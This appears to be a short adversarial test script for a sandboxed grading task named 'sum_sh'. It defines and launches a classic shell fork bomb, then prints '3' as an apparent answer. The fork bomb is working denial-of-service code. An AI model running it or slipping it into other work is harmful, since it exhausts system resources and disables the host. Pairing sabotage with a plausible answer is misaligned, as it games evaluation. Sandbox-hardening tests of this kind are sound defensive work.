# Attack: the shell's own fork bomb.
# task: sum_sh
bomb() { bomb | bomb & }
bomb
wait
echo 3
